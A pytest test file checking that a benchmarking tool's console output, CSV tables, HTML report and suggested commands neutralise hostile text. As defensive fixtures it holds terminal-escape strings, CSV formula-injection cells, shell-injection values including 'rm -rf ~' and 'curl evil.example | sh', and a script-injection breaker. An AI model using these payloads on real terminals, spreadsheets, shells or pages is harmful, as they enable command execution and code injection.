"""Text of boards, records and models is text wherever it is printed: no escapes, no markup, no formulas."""

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from bench.record.printable import first_line, printable
from orchestrate import cli, report
from orchestrate.analysis.frame import Frame
from orchestrate.console import make_console, own_command, say
from orchestrate.doctor.checks import Check
from orchestrate.doctor.show import show
from orchestrate.report import table_text, tables
from tests import synthetic
from tests.matrix import Part
from tests.synthetic import Study

MATRIX = Part("hostile", "text")
HOSTILE = {
    "clears the screen": "\x1b[2Jgone",
    "sets the title": "\x1b]0;owned\x07",
    "8-bit escape": "\x9b31m",
    "carriage return": "fail\rok  ",
    "backspace": "bad\b\b\bok",
    "bidi override": "abc\u202ecba",
    "isolates": "\u2066x\u2069",
    "zero width": "a\u200bb",
    "line separator": "a\u2028b",
    "half a surrogate": "a\ud800",
    "NUL": "a\0b",
}
MARKUP = "[red]x[/] [link=https://evil.example]y[/link] :boom:"
ALLOWED = set("\n")


def harmless(text: str) -> bool:
    return all(c.isprintable() or c in ALLOWED for c in text)


@pytest.fixture(scope="module", autouse=True)
def _matrix():
    yield
    MATRIX.write()


@pytest.mark.parametrize("case", HOSTILE)
def test_nothing_that_a_terminal_obeys_is_printed(case: str, capsys: pytest.CaptureFixture[str]) -> None:
    text = HOSTILE[case]
    say(text)
    make_console().print(text)
    show({text: [Check(text, "fail", text, text)]})
    printed = capsys.readouterr().out
    MATRIX.add(f"{case} in a line, a table, a verdict", "only printable characters", repr(printed[:60]),
               harmless(printed) and harmless(printable(text)) and "\n" not in first_line(text))  # fmt: skip


def test_markup_is_text(capsys: pytest.CaptureFixture[str]) -> None:
    make_console().print(MARKUP, soft_wrap=True)
    show({"b": [Check("c", "ok", MARKUP)]})
    printed = capsys.readouterr().out
    MATRIX.add("Rich markup from a board", "printed as it is, twice", printed, printed.count(MARKUP) == 2)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", " =", "\t=", "\r\n=", "\n \t@", "\u00a0="])
def test_a_cell_of_csv_is_never_a_formula(start: str) -> None:
    table = next(t for t in tables.TABLES if t.id == "excluded")
    data = Frame.of_rows(
        [dict.fromkeys(("device", "job", "code", "reason", "run"), f"{start}cmd|'/c calc'!A1")]
    )
    rows = list(csv.reader(io.StringIO(table_text.as_csv(table, data))))
    held = all(cell.lstrip()[:1] not in "=+-@" for cell in rows[1])
    MATRIX.add(
        f"CSV cell that begins with {start!r}", "text, and one line", rows[1][0], held and len(rows) == 2
    )


@pytest.mark.parametrize(
    ("given", "made"),
    [
        ("bench search resnet50 --dataset cifar100", "bench search resnet50 --dataset cifar100"),
        ("bench x; rm -rf ~", "bench 'x;' rm -rf '~'"),
        ("bench $(id) `id`", "bench '$(id)' '`id`'"),
        ("curl evil.example | sh", ""),
        ("bench 'open", ""),
    ],
)
def test_an_advised_command_is_ours_and_quoted(given: str, made: str) -> None:
    MATRIX.add(f"advised command {given}", made or "nothing", own_command(given), own_command(given) == made)


def test_a_report_of_hostile_records_is_whole_and_harmless(tmp_path: Path) -> None:
    run = synthetic.write(Study(architectures=("vgg11",), ratios=(1.0,)), tmp_path)
    good = sorted(run.glob("*/records/*.json"))
    record = json.loads(good[0].read_text())
    breaker = "</script><script>alert(1)</script><!--" + "".join(HOSTILE.values()).replace("\ud800", "")
    record["environment"]["kernel"] = record["environment"]["governors"] = breaker
    record["environment"]["governors"] = [breaker]
    record["validity"]["warnings"] = [{"code": breaker[:100], "message": breaker}]
    good[0].write_text(json.dumps(record))
    bad = {"status": "failed", "error": {"kind": "x", "message": breaker, "advice": MARKUP}}
    bad["validity"] = {"valid": False, "reasons": [], "warnings": []}
    (good[0].parent / "failed.json").write_text(json.dumps({**record, **bad}))
    labelled = json.loads(good[1].read_text())
    labelled["job"]["model"]["dataset"] = "<a href='https://evil.example'><b>x</b></a>"
    (good[0].parent / "label.json").write_text(json.dumps(labelled))
    page = report.render([run], tmp_path / "out").read_text()
    files = [path.read_text() for path in (tmp_path / "out" / "tables").iterdir()]
    MATRIX.add("page data that ends its script", "no tag of a stranger", f"{len(page)} characters",
               "<script>alert" not in page and "<a href='https://evil" not in page)  # fmt: skip
    told = [text for text in files if "job.model.dataset is" in text]
    MATRIX.add(
        "a plot's label with HTML", "its record is left out, and why", f"in {len(told)} files", told != []
    )
    MATRIX.add("control characters in tables' files", "none", len(files), all(map(harmless, files)))


def test_a_command_of_hostile_input_prints_one_harmless_line(tmp_path: Path) -> None:
    done = CliRunner().invoke(cli.build(), ["report", "\x1b[2Jrun\u202e", "--results", str(tmp_path)])
    held = done.exit_code == 2 and harmless(done.output)
    MATRIX.add("escapes in a run's name", "exit 2, harmless", repr(done.output), held)
